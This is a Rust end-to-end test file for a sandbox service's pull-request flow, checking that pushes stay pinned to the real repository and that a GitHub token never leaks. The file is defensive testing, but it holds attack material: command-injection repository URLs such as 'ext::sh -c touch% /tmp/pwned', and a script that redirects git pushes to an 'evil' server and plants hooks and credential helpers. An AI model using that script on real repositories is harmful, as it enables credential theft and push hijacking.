//! Pull requests end to end: the HTTP API, a real `warren-runner` (process backend,
//! and Docker for the pinned push) and real git against bare repositories on this
//! host served over git's smart HTTP (`git http-backend`), with a small stand-in for
//! the two GitHub endpoints used (create, merge) that records what it is sent.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use common::docker::{DockerStack, docker_host_ip, image};
use common::{Api, Reply, Stack};
use serde_json::{Value, json};
use tempfile::TempDir;
use warren_keys::SandboxId;
use warren_tests::util::free_port;
use warren_tests::{Client, Target};

const TOKEN: &str = "ghp_TestOnlyToken0123456789abcdefXYZ";
/// The image the Docker case's sandboxes run (with git).
const DOCKER_IMAGE: &str = "warren-base:latest";

// ---------------------------------------------------------------------------------
// What the HTTP stand-ins share: reading a request.

/// A request's head, and the bytes read past it.
struct Head {
    text: String,
    method: String,
    target: String,
    /// Names lowercase.
    headers: std::collections::HashMap<String, String>,
    rest: Vec<u8>,
}

impl Head {
    fn read(stream: &mut std::net::TcpStream) -> Result<Head> {
        let mut buf = Vec::new();
        let mut chunk = [0u8; 8192];
        let end = loop {
            let n = stream.read(&mut chunk)?;
            ensure!(n > 0, "connection closed mid-request");
            buf.extend_from_slice(&chunk[..n]);
            if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                break i + 4;
            }
        };
        let text = String::from_utf8_lossy(&buf[..end]).into_owned();
        let mut lines = text.split("\r\n");
        let mut request = lines.next().unwrap_or_default().split(' ');
        let method = request.next().unwrap_or_default().to_owned();
        let target = request.next().unwrap_or_default().to_owned();
        let headers = lines
            .filter_map(|line| line.split_once(':'))
            .map(|(name, value)| (name.trim().to_ascii_lowercase(), value.trim().to_owned()))
            .collect();
        Ok(Head {
            text,
            method,
            target,
            headers,
            rest: buf[end..].to_vec(),
        })
    }

    fn header(&self, name: &str) -> String {
        self.headers.get(name).cloned().unwrap_or_default()
    }

    /// The body: `Content-Length` bytes, or chunked.
    fn body(&self, stream: &mut std::net::TcpStream) -> Result<Vec<u8>> {
        let mut raw = self.rest.clone();
        let mut fill = |raw: &mut Vec<u8>, want: usize| -> Result<()> {
            let mut chunk = [0u8; 8192];
            while raw.len() < want {
                let n = stream.read(&mut chunk)?;
                ensure!(n > 0, "connection closed mid-body");
                raw.extend_from_slice(&chunk[..n]);
            }
            Ok(())
        };
        if !self
            .header("transfer-encoding")
            .eq_ignore_ascii_case("chunked")
        {
            let length: usize = self.header("content-length").parse().unwrap_or(0);
            fill(&mut raw, length)?;
            raw.truncate(length);
            return Ok(raw);
        }
        let mut body = Vec::new();
        let mut at = 0;
        loop {
            let line_end = loop {
                if let Some(i) = raw[at..].windows(2).position(|w| w == b"\r\n") {
                    break at + i;
                }
                let want = raw.len() + 1;
                fill(&mut raw, want)?;
            };
            let size = String::from_utf8_lossy(&raw[at..line_end]).into_owned();
            let size = usize::from_str_radix(size.split(';').next().unwrap_or("").trim(), 16)?;
            let start = line_end + 2;
            fill(&mut raw, start + size + 2)?;
            body.extend_from_slice(&raw[start..start + size]);
            at = start + size + 2;
            if size == 0 {
                return Ok(body);
            }
        }
    }
}

// ---------------------------------------------------------------------------------
// A GitHub stand-in: `POST /repos/{o}/{r}/pulls`, `PUT /repos/{o}/{r}/pulls/{n}/merge`.

#[derive(Debug, Clone)]
struct Recorded {
    method: String,
    path: String,
    authorization: String,
    accept: String,
    body: Value,
}

struct FakeGitHub {
    base: String,
    requests: Arc<Mutex<Vec<Recorded>>>,
}

impl FakeGitHub {
    fn start() -> Result<FakeGitHub> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let base = format!("http://{}", listener.local_addr()?);
        let requests = Arc::new(Mutex::new(Vec::new()));
        let recorded = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let recorded = recorded.clone();
                std::thread::spawn(move || {
                    let _ = serve_one(&mut stream, &recorded);
                });
            }
        });
        Ok(FakeGitHub { base, requests })
    }

    fn requests(&self) -> Vec<Recorded> {
        self.requests.lock().unwrap().clone()
    }
}

fn serve_one(stream: &mut std::net::TcpStream, recorded: &Mutex<Vec<Recorded>>) -> Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    let head = Head::read(stream)?;
    let body: Value = serde_json::from_slice(&head.body(stream)?).unwrap_or_default();
    let (method, path) = (head.method.clone(), head.target.clone());
    let authorization = head.header("authorization");
    recorded.lock().unwrap().push(Recorded {
        method: method.clone(),
        path: path.clone(),
        authorization: authorization.clone(),
        accept: head.header("accept"),
        body: body.clone(),
    });
    let segments: Vec<&str> = path.trim_start_matches('/').split('/').collect();
    let (status, answer) = if authorization != format!("Bearer {TOKEN}") {
        (401, json!({"message": "Bad credentials"}))
    } else {
        match (method.as_str(), segments.as_slice()) {
            ("POST", ["repos", o, r, "pulls"]) if body["title"] == "Duplicate" => (
                422,
                json!({"message": "Validation Failed", "errors": [{"resource": "PullRequest",
                    "code": "custom",
                    "message": format!("A pull request already exists for {o}:{}.",
                        body["head"].as_str().unwrap_or_default())}],
                    "documentation_url": format!("https://docs.github.com/{r}")}),
            ),
            ("POST", ["repos", o, r, "pulls"]) => (
                201,
                json!({"number": 7, "html_url": format!("https://github.example/{o}/{r}/pull/7"),
                    "url": format!("https://api.github.example/repos/{o}/{r}/pulls/7")}),
            ),
            ("PUT", ["repos", _, _, "pulls", "7", "merge"]) => (
                200,
                json!({"sha": "0123abc", "merged": true,
                    "message": "Pull Request successfully merged"}),
            ),
            ("PUT", ["repos", _, _, "pulls", _, "merge"]) => (404, json!({"message": "Not Found"})),
            _ => (404, json!({"message": "Not Found"})),
        }
    };
    let text = answer.to_string();
    write!(
        stream,
        "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
         Connection: close\r\n\r\n{text}",
        text.len()
    )?;
    stream.flush()?;
    Ok(())
}

// ---------------------------------------------------------------------------------
// Git on the host.

fn git(dir: &Path, args: &[&str]) -> Result<String> {
    let out = std::process::Command::new("git")
        .args(["-c", "user.name=Seed", "-c", "user.email=seed@example.com"])
        .args(args)
        .current_dir(dir)
        .stdin(std::process::Stdio::null())
        .output()?;
    ensure!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

/// A bare repository `<tmp>/acme/widgets.git` whose `main` has one commit.
fn bare_remote(tmp: &TempDir) -> Result<PathBuf> {
    let bare = tmp.path().join("acme").join("widgets.git");
    std::fs::create_dir_all(&bare)?;
    git(
        &bare,
        &["init", "--quiet", "--bare", "--initial-branch=main"],
    )?;
    let seed = tmp.path().join("seed");
    std::fs::create_dir_all(&seed)?;
    git(&seed, &["init", "--quiet", "--initial-branch=main"])?;
    std::fs::write(seed.join("README.md"), "# widgets\n")?;
    git(&seed, &["add", "README.md"])?;
    git(&seed, &["commit", "--quiet", "-m", "initial"])?;
    git(
        &seed,
        &["push", "--quiet", bare.to_str().context("path")?, "main"],
    )?;
    Ok(bare)
}

/// `Authorization: Basic` of `x-access-token:<TOKEN>` (what the askpass helper
/// answers git's username and password prompts with).
const BASIC: &str = "Basic eC1hY2Nlc3MtdG9rZW46Z2hwX1Rlc3RPbmx5VG9rZW4wMTIzNDU2Nzg5YWJjZGVmWFla";

/// One request a [`GitHttp`] server was sent.
#[derive(Debug, Clone)]
struct Seen {
    path: String,
    authorization: String,
    /// Every header line, lowercase.
    head: String,
}

/// Git's smart HTTP protocol for the repositories under a root (`git http-backend`
/// as a CGI), answering only requests that carry [`BASIC`]; records every request.
struct GitHttp {
    /// `http://ADDR:PORT`.
    base: String,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl GitHttp {
    /// Serves `root` on `addr` (`127.0.0.1:0`, or an address containers reach).
    fn start(root: PathBuf, addr: &str) -> Result<GitHttp> {
        let listener = TcpListener::bind(addr)?;
        let base = format!("http://{}", listener.local_addr()?);
        let seen = Arc::new(Mutex::new(Vec::new()));
        let recorded = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let (root, recorded) = (root.clone(), recorded.clone());
                std::thread::spawn(move || {
                    let _ = serve_git(&mut stream, &root, &recorded);
                });
            }
        });
        Ok(GitHttp { base, seen })
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    /// Requests that carried the token.
    fn authorized(&self) -> usize {
        self.seen()
            .iter()
            .filter(|s| s.authorization == BASIC)
            .count()
    }
}

fn serve_git(stream: &mut std::net::TcpStream, root: &Path, seen: &Mutex<Vec<Seen>>) -> Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    let head = Head::read(stream)?;
    let (path, query) = head.target.split_once('?').unwrap_or((&head.target, ""));
    seen.lock().unwrap().push(Seen {
        path: path.to_owned(),
        authorization: head.header("authorization"),
        head: head.text.to_ascii_lowercase(),
    });
    if head.header("authorization") != BASIC {
        write!(
            stream,
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\n\
             Content-Length: 0\r\nConnection: close\r\n\r\n"
        )?;
        return Ok(());
    }
    if head.header("expect").eq_ignore_ascii_case("100-continue") {
        write!(stream, "HTTP/1.1 100 Continue\r\n\r\n")?;
    }
    let body = head.body(stream)?;
    let mut cgi = std::process::Command::new("git");
    cgi.arg("http-backend")
        .env("GIT_PROJECT_ROOT", root)
        .env("GIT_HTTP_EXPORT_ALL", "1")
        .env("REQUEST_METHOD", &head.method)
        .env("PATH_INFO", path)
        .env("QUERY_STRING", query)
        .env("CONTENT_TYPE", head.header("content-type"))
        .env("CONTENT_LENGTH", body.len().to_string())
        .env("REMOTE_USER", "x-access-token")
        .env("REMOTE_ADDR", "127.0.0.1")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    for (name, var) in [
        ("content-encoding", "HTTP_CONTENT_ENCODING"),
        ("git-protocol", "HTTP_GIT_PROTOCOL"),
    ] {
        if let Some(value) = head.headers.get(name) {
            cgi.env(var, value);
        }
    }
    let mut child = cgi.spawn()?;
    let mut stdin = child.stdin.take().context("stdin")?;
    let writer = std::thread::spawn(move || stdin.write_all(&body));
    let out = child.wait_with_output()?;
    let _ = writer.join();
    let split = out
        .stdout
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .map(|i| (i, i + 4))
        .or_else(|| {
            out.stdout
                .windows(2)
                .position(|w| w == b"\n\n")
                .map(|i| (i, i + 2))
        })
        .context("no CGI header")?;
    let cgi_head = String::from_utf8_lossy(&out.stdout[..split.0]).into_owned();
    let mut status = "200 OK".to_owned();
    let mut extra = String::new();
    for line in cgi_head.lines() {
        match line.split_once(':') {
            Some((name, value)) if name.eq_ignore_ascii_case("status") => {
                status = value.trim().to_owned();
            }
            Some(_) => extra.push_str(&format!("{}\r\n", line.trim_end())),
            None => {}
        }
    }
    let payload = &out.stdout[split.1..];
    write!(
        stream,
        "HTTP/1.1 {status}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
        payload.len()
    )?;
    stream.write_all(payload)?;
    stream.flush()?;
    Ok(())
}

// ---------------------------------------------------------------------------------

struct Setup {
    stack: Stack,
    runner: common::RunnerProc,
    api: Api,
    key: String,
    github: FakeGitHub,
    /// The bare repository `acme/widgets.git` and the server it is served by.
    remote: PathBuf,
    git: GitHttp,
    url: String,
    _tmp: TempDir,
}

fn setup() -> Result<Setup> {
    let stack = Stack::start()?;
    let runner = stack.runner("r1")?;
    let api = stack.api(Duration::from_secs(30))?;
    let key = stack.admin("alice")?;
    let github = FakeGitHub::start()?;
    api.state.lifecycle.set_github_api(&github.base);
    // The stand-in speaks plain http; the operator's switch for that is on.
    api.state.lifecycle.set_allow_http_repos(true);
    let tmp = TempDir::new()?;
    let remote = bare_remote(&tmp)?;
    let git = GitHttp::start(tmp.path().to_owned(), "127.0.0.1:0")?;
    let url = format!("{}/acme/widgets.git", git.base);
    Ok(Setup {
        stack,
        runner,
        api,
        key,
        github,
        remote,
        git,
        url,
        _tmp: tmp,
    })
}

impl Setup {
    fn call(&self, method: &str, path: &str, body: Option<Value>) -> Result<Reply> {
        self.stack
            .call(&self.api, method, path, Some(&self.key), body)
    }

    /// A sandbox cloned from `repo` on `branch`, with the token in its env; returns
    /// its id and an ssh client logged in with its token.
    fn sandbox(&self, repo: &str, branch: &str) -> Result<(String, Client)> {
        let made = self.call(
            "POST",
            "/v1/sandboxes",
            Some(json!({"repo": repo, "branch": branch, "env": {"GITHUB_TOKEN": TOKEN}})),
        )?;
        ensure!(made.status == 201, "create: {made:?}");
        let id = made.json()["id"].as_str().context("id")?.to_owned();
        let token = made.json()["token"].as_str().context("token")?.to_owned();
        let client = Client::new(Target::new(
            "127.0.0.1",
            self.stack.ssh_port,
            format!("{id}#{token}"),
        ))?;
        Ok((id, client))
    }

    fn pull_request(&self, id: &str, body: Value) -> Result<Reply> {
        self.call(
            "POST",
            &format!("/v1/sandboxes/{id}/pull-requests"),
            Some(body),
        )
    }
}

fn check_error(reply: &Reply, status: u16, code: &str) -> Result<()> {
    ensure!(
        reply.status == status && reply.error_code() == code,
        "expected {status} {code}: {reply:?}"
    );
    Ok(())
}

/// No file under `dir` holds `secret`.
fn assert_absent(dir: &Path, secret: &str) -> Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        let path = entry.path();
        let kind = entry.file_type()?;
        if kind.is_dir() {
            assert_absent(&path, secret)?;
        } else if kind.is_file() {
            let bytes = std::fs::read(&path)?;
            ensure!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "the token is in {}",
                path.display()
            );
        }
    }
    Ok(())
}

#[test]
fn a_pull_request_is_committed_pushed_opened_and_merged() -> Result<()> {
    let s = setup()?;
    let remote = &s.remote;
    let (id, client) = s.sandbox(&s.url, "feature/hello")?;

    // The clone is there, on the sandbox's branch; sessions start in it.
    let out = client
        .exec("pwd; git rev-parse --abbrev-ref HEAD; cat README.md")
        .run()?
        .success()?;
    let lines: Vec<String> = out.stdout_trimmed().lines().map(str::to_owned).collect();
    ensure!(
        lines.len() == 3
            && lines[0].ends_with("/workspace")
            && lines[1] == "feature/hello"
            && lines[2] == "# widgets",
        "{out}"
    );

    // Nothing changed yet: 409, and GitHub is not asked.
    let reply = s.pull_request(&id, json!({"title": "Nothing"}))?;
    check_error(&reply, 409, "nothing_to_commit")?;
    ensure!(s.github.requests().is_empty(), "{:?}", s.github.requests());

    // A change made over ssh becomes a commit on the branch in the remote, and a PR.
    client
        .exec("echo hello > hello.txt && rm README.md")
        .run()?
        .success()?;
    let reply = s.pull_request(
        &id,
        json!({"title": "Say hello", "body": "Adds hello.txt.", "base": "main"}),
    )?;
    ensure!(reply.status == 201, "{reply:?}");
    let pr = reply.json();
    ensure!(
        pr["number"] == 7 && pr["url"] == "https://github.example/acme/widgets/pull/7",
        "{pr}"
    );
    ensure!(
        pr["branch"] == "feature/hello" && pr["base"] == "main",
        "{pr}"
    );
    let head = git(remote, &["rev-parse", "refs/heads/feature/hello"])?;
    ensure!(pr["commit"] == head.as_str(), "{pr} vs {head}");
    let log = git(
        remote,
        &["log", "-1", "--format=%s%n%b%n%an", "feature/hello"],
    )?;
    ensure!(
        log.starts_with("Say hello\nAdds hello.txt.") && log.ends_with("alice"),
        "{log}"
    );
    ensure!(
        git(remote, &["show", "feature/hello:hello.txt"])? == "hello",
        "hello.txt"
    );
    let files = git(remote, &["ls-tree", "--name-only", "feature/hello"])?;
    ensure!(
        files == "hello.txt",
        "the deletion is committed too: {files}"
    );
    ensure!(
        git(remote, &["rev-parse", "main^{commit}"])? != head,
        "main moved"
    );

    let requests = s.github.requests();
    ensure!(requests.len() == 1, "{requests:?}");
    let create = &requests[0];
    ensure!(
        create.method == "POST" && create.path == "/repos/acme/widgets/pulls",
        "{create:?}"
    );
    ensure!(
        create.authorization == format!("Bearer {TOKEN}")
            && create.accept == "application/vnd.github+json",
        "{create:?}"
    );
    ensure!(
        create.body
            == json!({"title": "Say hello", "head": "feature/hello", "base": "main",
                "body": "Adds hello.txt."}),
        "{create:?}"
    );

    // Merge it.
    let reply = s.call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests/7/merge"),
        Some(json!({"method": "squash"})),
    )?;
    ensure!(
        reply.status == 200 && reply.json()["merged"] == true,
        "{reply:?}"
    );
    let requests = s.github.requests();
    let merge = requests.last().context("merge request")?;
    ensure!(
        merge.method == "PUT"
            && merge.path == "/repos/acme/widgets/pulls/7/merge"
            && merge.body == json!({"merge_method": "squash"})
            && merge.authorization == format!("Bearer {TOKEN}"),
        "{merge:?}"
    );
    // GitHub's refusals are 502s carrying GitHub's message.
    let reply = s.call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests/8/merge"),
        None,
    )?;
    check_error(&reply, 502, "upstream_error")?;
    ensure!(reply.text.contains("Not Found"), "{reply:?}");
    let reply = s.call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests/7/merge"),
        Some(json!({"method": "octopus"})),
    )?;
    ensure!(reply.status == 422, "{reply:?}");

    client.exec("echo again >> hello.txt").run()?.success()?;
    let reply = s.pull_request(&id, json!({"title": "Duplicate"}))?;
    check_error(&reply, 502, "upstream_error")?;
    ensure!(
        reply
            .text
            .contains("A pull request already exists for acme:feature/hello."),
        "{reply:?}"
    );
    // (The commit was pushed before GitHub refused; without a base the remote's
    // default branch is used.)
    ensure!(
        s.github.requests().last().context("last")?.body["base"] == "main",
        "{:?}",
        s.github.requests()
    );

    // Bad input, and sandboxes without a repository.
    let reply = s.pull_request(&id, json!({"title": ""}))?;
    check_error(&reply, 422, "invalid_request")?;
    let reply = s.pull_request(&id, json!({"title": "x", "base": "--force"}))?;
    check_error(&reply, 422, "invalid_request")?;
    let bare = s.call("POST", "/v1/sandboxes", Some(json!({})))?;
    ensure!(bare.status == 201, "{bare:?}");
    let bare_id = bare.json()["id"].as_str().context("id")?.to_owned();
    let reply = s.pull_request(&bare_id, json!({"title": "x"}))?;
    check_error(&reply, 409, "no_repo")?;
    let reply = s.pull_request(SandboxId::generate().as_str(), json!({"title": "x"}))?;
    check_error(&reply, 404, "not_found")?;

    // The token is nowhere on disk: not in the workspace's git config, not in the
    // sandbox's directory, not in the runner's log.
    let sandbox_dir = s.runner.sandbox_dir(&SandboxId::parse(&id)?);
    let config = std::fs::read_to_string(sandbox_dir.join("workspace/.git/config"))?;
    ensure!(!config.contains(TOKEN), "{config}");
    assert_absent(&sandbox_dir, TOKEN)?;
    assert_absent(remote, TOKEN)?;
    let log = std::fs::read_to_string(&s.runner.log)?;
    ensure!(!log.contains(TOKEN), "the token is in the runner's log");
    Ok(())
}

#[test]
fn after_a_gateway_restart_env_and_token_come_back_from_the_runner() -> Result<()> {
    let s = setup()?;
    let (id, client) = s.sandbox(&s.url, "warren/restart")?;
    // The gateway's memory after a restart: a fresh API state on the same store,
    // runner and keys, knowing nothing of the create request's env.
    let restarted = s.stack.api(Duration::from_secs(30))?;
    restarted.state.lifecycle.set_github_api(&s.github.base);
    restarted.state.lifecycle.set_allow_http_repos(true);
    let call = |method: &str, path: &str, body: Option<Value>| {
        s.stack.call(&restarted, method, path, Some(&s.key), body)
    };
    for step in ["stop", "start"] {
        let reply = call("POST", &format!("/v1/sandboxes/{id}/{step}"), None)?;
        ensure!(reply.status == 200, "{step}: {reply:?}");
    }
    let out = client
        .exec(&format!("test \"$GITHUB_TOKEN\" = '{TOKEN}' && echo same"))
        .run()?;
    ensure!(
        out.stdout_trimmed() == "same",
        "the restarted sandbox lost its env"
    );
    client.exec("echo again > again.txt").run()?.success()?;
    let reply = call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests"),
        Some(json!({"title": "After a restart"})),
    )?;
    ensure!(reply.status == 201, "{reply:?}");
    let create = s.github.requests().pop().context("GitHub was not asked")?;
    ensure!(
        create.authorization == format!("Bearer {TOKEN}"),
        "the pull request was not opened with the create-time token"
    );
    Ok(())
}

#[test]
fn a_refused_push_is_a_502_with_the_remotes_message() -> Result<()> {
    let s = setup()?;
    let remote = &s.remote;
    let hook = remote.join("hooks").join("pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\necho 'policy: pushes to this repository are closed today' >&2\nexit 1\n",
    )?;
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755))?;
    let (id, client) = s.sandbox(&s.url, "warren/fix")?;
    client.exec("echo fix > fix.txt").run()?.success()?;
    let reply = s.pull_request(&id, json!({"title": "Fix"}))?;
    check_error(&reply, 502, "upstream_error")?;
    ensure!(
        reply
            .text
            .contains("policy: pushes to this repository are closed today"),
        "{reply:?}"
    );
    ensure!(!reply.text.contains(TOKEN), "{reply:?}");
    ensure!(s.github.requests().is_empty(), "{:?}", s.github.requests());
    let branches = git(remote, &["branch", "--list"])?;
    ensure!(!branches.contains("warren/fix"), "{branches}");
    Ok(())
}

#[test]
fn a_clone_gets_the_token_only_through_askpass() -> Result<()> {
    let s = setup()?;
    // Without the token git may not prompt: the create fails, quickly, and leaves
    // nothing in the owner's list.
    let made = s.call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": s.url, "branch": "warren/nope"})),
    )?;
    check_error(&made, 502, "runner_error")?;
    ensure!(s.git.authorized() == 0);
    ensure_no_sandboxes(&s)?;

    let made = s.call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": s.url, "env": {"GITHUB_TOKEN": TOKEN}})),
    )?;
    ensure!(made.status == 201, "create: {made:?}");
    ensure!(s.git.authorized() > 0);
    let id = SandboxId::parse(made.json()["id"].as_str().context("id")?)?;
    let workspace = s.runner.sandbox_dir(&id).join("workspace");
    ensure!(
        std::fs::read_to_string(workspace.join("README.md"))? == "# widgets\n",
        "not cloned"
    );
    ensure!(
        git(&workspace, &["rev-parse", "--abbrev-ref", "HEAD"])? == format!("warren/{id}"),
        "not on the sandbox's branch"
    );
    assert_absent(&s.runner.sandbox_dir(&id), TOKEN)?;
    let log = std::fs::read_to_string(&s.runner.log)?;
    ensure!(!log.contains(TOKEN), "the token is in the runner's log");
    Ok(())
}

/// The owner's list is empty (deleted sandboxes are not listed by default).
fn ensure_no_sandboxes(s: &Setup) -> Result<()> {
    let list = s.call("GET", "/v1/sandboxes", None)?;
    ensure!(list.status == 200, "{list:?}");
    let sandboxes = list.json()["sandboxes"].clone();
    ensure!(
        sandboxes.as_array().is_some_and(Vec::is_empty),
        "the owner's list is not empty: {sandboxes}"
    );
    Ok(())
}

/// One API call as a test's user: method, path, JSON body.
type Call<'a> = &'a dyn Fn(&str, &str, Option<Value>) -> Result<Reply>;

/// Repository URLs that are not remote https are refused before anything is made.
fn refused_repositories(
    call: Call<'_>,
    lifecycle: &warren_gateway::lifecycle::Lifecycle,
) -> Result<()> {
    for repo in [
        "file:///etc",
        "/x",
        "/etc/passwd",
        "ext::sh -c touch% /tmp/pwned",
        "ext::sh",
        "fd::0",
        "ssh://git@github.com/acme/widgets.git",
        "git@github.com:acme/widgets.git",
        "git://github.com/acme/widgets.git",
        "https://github.com",
    ] {
        let made = call(
            "POST",
            "/v1/sandboxes",
            Some(json!({"repo": repo, "env": {"GITHUB_TOKEN": TOKEN}})),
        )?;
        check_error(&made, 422, "invalid_request").with_context(|| repo.to_owned())?;
        ensure!(
            !made.text.contains(repo),
            "the message echoes {repo}: {made:?}"
        );
    }
    // Plain http only where the operator allows it.
    lifecycle.set_allow_http_repos(false);
    let made = call(
        "POST",
        "/v1/sandboxes",
        Some(json!({"repo": "http://127.0.0.1:9/acme/widgets.git"})),
    )?;
    lifecycle.set_allow_http_repos(true);
    check_error(&made, 422, "invalid_request")?;
    let list = call("GET", "/v1/sandboxes?include_deleted=true", None)?;
    ensure!(
        list.json()["sandboxes"]
            .as_array()
            .is_some_and(Vec::is_empty),
        "a refused repository left a sandbox: {list:?}"
    );
    Ok(())
}

/// What the sandbox user does to steer a pull request's push: `origin` and its push
/// URL rewritten to `evil`, `real` rewritten to `evil` by `insteadOf` (directly and
/// through an included file), a proxy and an extra header, and every program git
/// could be told to run (hooks, `core.sshCommand`, `core.askPass`, a credential
/// helper, `receivepack`, `core.fsmonitor`) leaving a mark in `.git/pwned`.
fn steer_the_push(real: &str, evil: &str, evil_base: &str) -> String {
    format!(
        r#"set -e
M="$(pwd)/.git/pwned"
mkdir -p "$M" .git/evil-hooks
printf '#!/bin/sh\ntouch "%s/$(basename "$0")"\necho stolen\n' "$M" > .git/evil-hooks/pre-push
chmod +x .git/evil-hooks/pre-push
cp .git/evil-hooks/pre-push .git/hooks/pre-push
cp .git/evil-hooks/pre-push .git/evil-hooks/post-commit
cp .git/evil-hooks/pre-push .git/evil-askpass
git remote set-url origin '{evil}'
git config remote.origin.pushurl '{evil}'
git config remote.origin.receivepack "touch $M/receivepack; git-receive-pack"
git config core.sshCommand "touch $M/ssh-command; ssh"
git config core.hooksPath "$(pwd)/.git/evil-hooks"
git config core.askPass "$(pwd)/.git/evil-askpass"
git config core.fsmonitor "touch $M/fsmonitor; true"
git config credential.helper "!touch $M/credential-helper; cat >/dev/null"
git config url.'{evil}'.insteadOf '{real}'
git config url.'{evil}'.pushInsteadOf '{real}'
git config http.proxy '{evil_base}'
git config http.extraHeader 'X-Evil: 1'
printf '[url "%s"]\n\tinsteadOf = %s\n' '{evil}' '{real}' > .git/evil.config
git config include.path "$(pwd)/.git/evil.config"
echo pinned > pinned.txt
echo steered
"#
    )
}

/// A sandbox of `real` steers its push towards `evil` ([`steer_the_push`]); the
/// pull request's push still lands in `real`, `evil`'s server is never asked (so
/// never sees the token), and none of the programs ran.
#[allow(clippy::too_many_arguments)]
fn the_push_stays_pinned(
    call: Call<'_>,
    ssh_port: u16,
    image: Option<&str>,
    real: (&str, &Path, &GitHttp),
    evil: (&str, &Path, &GitHttp),
    github: &FakeGitHub,
) -> Result<()> {
    let (real_url, real_repo, real_server) = real;
    let (evil_url, evil_repo, evil_server) = evil;
    let mut body = json!({"repo": real_url, "branch": "warren/pinned",
        "env": {"GITHUB_TOKEN": TOKEN}});
    if let Some(image) = image {
        body["image"] = json!(image);
    }
    let made = call("POST", "/v1/sandboxes", Some(body))?;
    ensure!(made.status == 201, "create: {made:?}");
    let id = made.json()["id"].as_str().context("id")?.to_owned();
    let token = made.json()["token"].as_str().context("token")?.to_owned();
    let client = Client::new(Target::new("127.0.0.1", ssh_port, format!("{id}#{token}")))?;
    let evil_base = evil_url.trim_end_matches("/acme/widgets.git");
    let out = client
        .exec(&steer_the_push(real_url, evil_url, evil_base))
        .run()?
        .success()?;
    ensure!(out.stdout_trimmed().ends_with("steered"), "{out}");
    let before = real_server.seen().len();

    let reply = call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests"),
        Some(json!({"title": "Pinned", "base": "main"})),
    )?;
    ensure!(
        reply.status == 201,
        "{reply:?}\nasked of the repository's server: {:?}\nof the other: {:?}",
        &real_server.seen()[before..],
        evil_server.seen()
    );
    let commit = reply.json()["commit"]
        .as_str()
        .context("commit")?
        .to_owned();
    ensure!(
        git(real_repo, &["rev-parse", "refs/heads/warren/pinned"])? == commit,
        "the push did not land in the sandbox's repository"
    );
    ensure!(
        git(real_repo, &["show", "warren/pinned:pinned.txt"])? == "pinned",
        "the pushed commit lacks the sandbox's change"
    );
    ensure!(
        !git(evil_repo, &["branch", "--list"])?.contains("warren/pinned"),
        "the push went to the other repository"
    );
    let asked = evil_server.seen();
    ensure!(
        asked.is_empty(),
        "the other server was asked (as remote or proxy): {asked:?}"
    );
    let pushed = &real_server.seen()[before..];
    ensure!(
        pushed.iter().any(|s| s.path.ends_with("git-receive-pack")),
        "{pushed:?}"
    );
    ensure!(
        pushed.iter().all(|s| !s.head.contains("x-evil")),
        "the workspace's http.extraHeader was sent: {pushed:?}"
    );
    let marks = client.exec("ls -A .git/pwned").run()?.success()?;
    ensure!(
        marks.stdout_trimmed().is_empty(),
        "programs the sandbox configured ran: {}",
        marks.stdout_trimmed()
    );
    let create = github.requests().pop().context("GitHub was not asked")?;
    ensure!(
        create.body["head"] == "warren/pinned" && create.path == "/repos/acme/widgets/pulls",
        "{create:?}"
    );
    // Again with nothing new: no second commit, the same one pushed.
    let again = call(
        "POST",
        &format!("/v1/sandboxes/{id}/pull-requests"),
        Some(json!({"title": "Pinned again", "base": "main"})),
    )?;
    ensure!(
        again.status == 201 && again.json()["commit"] == commit.as_str(),
        "{again:?}"
    );
    ensure!(evil_server.seen().is_empty(), "{:?}", evil_server.seen());
    Ok(())
}

#[test]
fn a_steered_push_stays_pinned_and_local_repositories_are_refused() -> Result<()> {
    let s = setup()?;
    let call = |method: &str, path: &str, body: Option<Value>| s.call(method, path, body);
    refused_repositories(&call, &s.api.state.lifecycle)?;
    let evil_tmp = TempDir::new()?;
    let evil_repo = bare_remote(&evil_tmp)?;
    let evil = GitHttp::start(evil_tmp.path().to_owned(), "127.0.0.1:0")?;
    let evil_url = format!("{}/acme/widgets.git", evil.base);
    the_push_stays_pinned(
        &call,
        s.stack.ssh_port,
        None,
        (&s.url, &s.remote, &s.git),
        (&evil_url, &evil_repo, &evil),
        &s.github,
    )?;
    let log = std::fs::read_to_string(&s.runner.log)?;
    ensure!(!log.contains(TOKEN), "the token is in the runner's log");
    Ok(())
}

#[test]
fn on_docker_a_steered_push_stays_pinned_and_a_failed_create_leaves_nothing() -> Result<()> {
    let (real_port, evil_port) = (free_port()?, free_port()?);
    let Some(d) = DockerStack::start(&[
        "--host-tcp-port",
